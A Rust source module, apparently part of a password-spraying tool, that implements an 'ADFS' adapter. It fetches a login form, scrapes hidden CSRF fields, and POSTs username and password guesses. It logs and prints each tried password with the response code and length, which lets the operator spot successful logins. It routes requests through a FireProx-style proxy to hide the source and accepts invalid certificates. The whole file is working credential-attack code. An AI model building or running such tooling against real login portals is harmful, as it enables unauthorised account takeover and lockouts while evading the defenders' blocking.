//! Generic form-POST adapter, grounded in the ADFS IdP-initiated sign-on flow:
//! GET the login form to pick up hidden fields and cookies, then POST credentials.

use super::{AttemptOutcome, TargetAdapter};
use crate::attempt_log::{AttemptRecord, HttpFields, IntOrTimeout, RecordShape};
use async_trait::async_trait;
use regex::Regex;
use reqwest::Client;
use std::time::Duration;

pub struct HttpFormAdapter {
    client: Client,
    base_url: String,
    login_path: String,
}

impl HttpFormAdapter {
    pub fn new(
        host: &str,
        port: u16,
        no_ssl: bool,
        fireprox: Option<&str>,
        timeout: Duration,
        login_path: &str,
    ) -> eyre::Result<Self> {
        let scheme = if no_ssl { "http" } else { "https" };
        let base_url = match fireprox {
            Some(proxy) => format!("https://{proxy}/fireprox"),
            None => format!("{scheme}://{host}:{port}"),
        };

        let client = Client::builder()
            .danger_accept_invalid_certs(true)
            .timeout(timeout)
            .cookie_store(true)
            .build()?;

        Ok(Self {
            client,
            base_url,
            login_path: login_path.to_string(),
        })
    }

    fn extract_hidden_fields(html: &str) -> Vec<(String, String)> {
        let hidden_re = Regex::new(r#"(?i)<input[^>]+type=["']hidden["'][^>]*>"#).unwrap();
        let name_re = Regex::new(r#"name=["']([^"']+)["']"#).unwrap();
        let value_re = Regex::new(r#"value=["']([^"']*)["']"#).unwrap();

        hidden_re
            .find_iter(html)
            .filter_map(|m| {
                let tag = m.as_str();
                let name = name_re.captures(tag)?.get(1)?.as_str().to_string();
                let value = value_re
                    .captures(tag)
                    .and_then(|c| c.get(1))
                    .map(|v| v.as_str().to_string())
                    .unwrap_or_default();
                Some((name, value))
            })
            .collect()
    }
}

#[async_trait]
impl TargetAdapter for HttpFormAdapter {
    fn module_name(&self) -> &'static str {
        "ADFS"
    }

    async fn login(&self, username: &str, password: &str) -> eyre::Result<AttemptOutcome> {
        let url = format!("{}{}", self.base_url, self.login_path);

        // Phase 1: GET the login form to pick up hidden fields (CSRF tokens etc).
        // If the GET fails outright, fall back to a direct POST — some endpoints
        // accept credentials without a prior form fetch.
        let html = match self.client.get(&url).send().await {
            Ok(resp) if resp.status().is_success() => resp.text().await.unwrap_or_default(),
            _ => String::new(),
        };

        let mut form = vec![
            ("UserName".to_string(), username.to_string()),
            ("Password".to_string(), password.to_string()),
            ("AuthMethod".to_string(), "FormsAuthentication".to_string()),
        ];
        for (name, value) in Self::extract_hidden_fields(&html) {
            form.push((name, value));
        }

        // Phase 2: POST credentials.

        let send_result = self
            .client
            .post(&url)
            .form(&form)
            .send()
            .await;

        match send_result {
            Ok(resp) => {
                let code = resp.status().as_u16() as i64;
                let body = resp.bytes().await.unwrap_or_default();
                let length = body.len() as i64;

                let record = AttemptRecord::now(
                    self.module_name(),
                    username,
                    password,
                    RecordShape::Http(HttpFields {
                        response_code: IntOrTimeout::Value(code),
                        response_length: IntOrTimeout::Value(length),
                    }),
                );
                Ok(AttemptOutcome::Responded(record))
            }
            Err(err) if err.is_timeout() => {
                let record = AttemptRecord::now(
                    self.module_name(),
                    username,
                    password,
                    RecordShape::Http(HttpFields {
                        response_code: IntOrTimeout::timeout(),
                        response_length: IntOrTimeout::timeout(),
                    }),
                );
                Ok(AttemptOutcome::TimedOut(record))
            }
            Err(err) => Err(err.into()),
        }
    }

    fn print_response(&self, outcome: &AttemptOutcome) {
        let record = outcome.record();
        if let RecordShape::Http(fields) = &record.shape {
            let code = match &fields.response_code {
                IntOrTimeout::Value(v) => v.to_string(),
                IntOrTimeout::Timeout(_) => "TIMEOUT".to_string(),
            };
            let length = match &fields.response_length {
                IntOrTimeout::Value(v) => v.to_string(),
                IntOrTimeout::Timeout(_) => "TIMEOUT".to_string(),
            };
            println!(
                "{:<35} {:<25} {:>13} {:>15}",
                record.username, record.password, code, length
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn extracts_hidden_fields_from_html() {
        let html = r#"<form><input type="hidden" name="csrf" value="abc123"/><input type="text" name="ignored"/></form>"#;
        let fields = HttpFormAdapter::extract_hidden_fields(html);
        assert_eq!(fields, vec![("csrf".to_string(), "abc123".to_string())]);
    }

    #[test]
    fn hidden_field_without_value_defaults_to_empty() {
        let html = r#"<input type='hidden' name='token'>"#;
        let fields = HttpFormAdapter::extract_hidden_fields(html);
        assert_eq!(fields, vec![("token".to_string(), String::new())]);
    }
}
